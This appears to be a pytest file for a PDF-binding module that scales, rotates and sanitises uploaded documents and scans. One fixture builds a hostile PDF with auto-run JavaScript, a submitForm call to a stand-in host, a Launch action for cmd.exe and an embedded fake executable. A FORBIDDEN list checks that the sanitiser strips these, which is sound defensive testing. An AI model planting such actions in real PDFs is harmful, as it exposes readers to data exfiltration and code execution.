"""Uploads bound into a book: scaled and upright, with nothing live, or refused with a reason."""

import shutil
import subprocess
from io import BytesIO

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name
from PIL import Image

from reports.binding import attachments, obstacles
from reports.binding.items import Taken

from .binding_parts import BODY, COVER, attached, bound, laid, saved, small


def behind_cover(data):
    """The first page of an attachment, and the book it lies in."""
    book = pikepdf.open(BytesIO(bound([laid("s", "Sampul", COVER), attached(data)])))
    return book, book.pages[1]


@pytest.mark.parametrize("size", [(300, 400), (1200, 1700), (842, 595), (100, 3000)])
def test_attachment_of_any_size_fills_a_page_between_head_and_foot(size):
    _book, page = behind_cover(saved(small(size=size)))
    width, height = (float(side) for side in page.mediabox[2:])
    assert sorted((round(width), round(height))) == [595, 842]
    assert (width > height) == (size[0] > size[1])
    frame = attachments.frame(width, height)
    form = page.Resources.XObject["/Lampiran"]
    a, b, c, d, x, y = matrix(page)
    assert (round(b), round(c), round(a, 6)) == (0, 0, round(d, 6))
    assert x >= frame.llx - 0.01
    assert y >= frame.lly - 0.01
    assert x + a * float(form.BBox[2]) <= frame.urx + 0.1
    assert y + d * float(form.BBox[3]) <= frame.ury + 0.1


def matrix(page):
    [step] = [s for s in pikepdf.parse_content_stream(page) if str(s.operator) == "cm"][:1]
    return [float(value) for value in step.operands]


def test_turned_page_lies_as_its_reader_saw_it():
    document = small(size=(300, 400))
    document.pages[0].rotate(90, relative=True)
    _book, page = behind_cover(saved(document))
    assert float(page.mediabox[2]) > float(page.mediabox[3])


def hostile():
    """An upload with everything that acts, reaches out, or hides a file."""
    document = small(OpenAction=Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
    page = document.pages[0]
    inner = document.make_stream(b"0 0 m", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
    inner.Ref = Dictionary(F=Dictionary(Type=Name.Filespec, F="https://jahat.example/a.pdf"), Page=0)
    page.Resources = Dictionary(XObject=Dictionary(Luar=inner))
    page.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS="this.submitForm('https://jahat.example')"))
    link = {"Type": Name.Annot, "Subtype": Name.Link, "Rect": [0, 0, 50, 50]}
    page.Annots = Array(
        [
            document.make_indirect(Dictionary(**link, A=Dictionary(S=Name.URI, URI="https://jahat.example"))),
            document.make_indirect(Dictionary(**link, A=Dictionary(S=Name.Launch, F="cmd.exe"))),
        ]
    )
    document.attachments["virus.exe"] = b"MZ virus"
    document.Root.Names.JavaScript = Dictionary(Names=["a", Dictionary(S=Name.JavaScript, JS="app.alert(2)")])
    return saved(document)


FORBIDDEN = (
    b"JavaScript",
    b"app.alert",
    b"jahat.example",
    b"Launch",
    b"cmd.exe",
    b"virus",
    b"OpenAction",
    b"submit",
)


@pytest.mark.parametrize("taken", [False, True], ids=["scaled into a page", "taken page by page"])
def test_nothing_live_of_an_upload_reaches_the_book(taken, tmp_path):
    data = hostile()
    assert all(word in plain(data, tmp_path) for word in (b"app.alert", b"jahat.example", b"virus"))
    source = attachments.open_pdf(data)
    item = (
        Taken("surat", "Surat", BODY, attachments.bare(source), range(1), (), False)
        if taken
        else attached(data)
    )
    found = plain(bound([laid("s", "Sampul", COVER), item]), tmp_path)
    assert not [word for word in FORBIDDEN if word in found]


def plain(data, tmp_path):
    """The file with every stream unpacked."""
    path, out = tmp_path / "in.pdf", tmp_path / "out.pdf"
    path.write_bytes(data)
    subprocess.run(  # noqa: S603  # our own command
        [shutil.which("qpdf"), "--qdf", "--object-streams=disable", path, out], check=True
    )
    return out.read_bytes()


def test_what_was_filled_in_a_form_is_drawn():
    document = small()
    look = document.make_stream(b"1 0 0 RG 0 0 m 80 20 l S", Subtype=Name.Form, BBox=[0, 0, 90, 30])
    field = document.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="nama", V="Ya", F=4, Rect=[10, 10, 100, 40]
        )
    )
    field.AP = Dictionary(N=look)
    document.pages[0].Annots = Array([field])
    document.Root.AcroForm = Dictionary(Fields=Array([field]), XFA="<xdp/>")
    _book, page = behind_cover(saved(document))
    drawn = page.Resources.XObject["/Lampiran"]
    assert b"Do" in drawn.read_bytes()
    assert len(drawn.Resources.XObject) == 1
    assert "/Annots" not in page.obj


def test_locked_and_broken_files_are_refused_with_a_reason():
    locked = BytesIO()
    small().save(locked, encryption=pikepdf.Encryption(user="rahasia", owner="rahasia"))
    with pytest.raises(attachments.Unbindable, match="terkunci kata sandi"):
        attachments.open_pdf(locked.getvalue())
    with pytest.raises(attachments.Unbindable, match="rusak"):
        attachments.open_pdf(b"%PDF-1.7 bukan apa-apa")


def test_file_that_only_forbids_copying_is_bound():
    data = BytesIO()
    small(2).save(data, encryption=pikepdf.Encryption(user="", owner="rahasia"))
    assert len(attachments.open_pdf(data.getvalue()).pages) == 2


def photographed(mode="RGB", size=(400, 200), rotated=None, **options):
    out = BytesIO()
    image = Image.new(mode, size)
    exif = Image.Exif()
    if rotated:
        exif[0x0112] = rotated
    image.save(out, exif=exif, **options)
    return out.getvalue()


def image_of(data):
    """What the page of a picture draws, unpacked."""
    with pikepdf.open(BytesIO(attachments.picture(data))) as document:
        [picture] = document.pages[0].images.values()
        return pikepdf.PdfImage(picture).as_pil_image()


def test_scan_that_was_turned_by_its_camera_stands_upright():
    assert image_of(photographed(rotated=6, format="JPEG")).size == (200, 400)


def test_scan_in_colours_of_a_press_is_bound_in_those_of_a_screen():
    assert image_of(photographed("CMYK", format="JPEG")).mode == "RGB"


def test_transparent_picture_lies_on_white():
    picture = image_of(photographed("RGBA", format="PNG"))
    assert min(picture.convert("L").getextrema()) > 250


def test_large_scan_is_made_no_larger_than_paper_can_show():
    assert image_of(photographed("L", (6000, 5000), format="PNG")).width <= 11 * attachments.DOTS


def test_obstacles_to_the_archive_are_named():
    document = small()
    assert obstacles.of(document) == []
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    document.pages[0].Resources = Dictionary(Font=Dictionary(F1=document.make_indirect(font)))
    assert obstacles.of(document) == [obstacles.FONT]
    document.pages[0].Contents = document.make_stream(b"0 0 0 1 k 0 0 9 9 re f")
    assert obstacles.of(document) == [obstacles.FONT, obstacles.COLOUR]
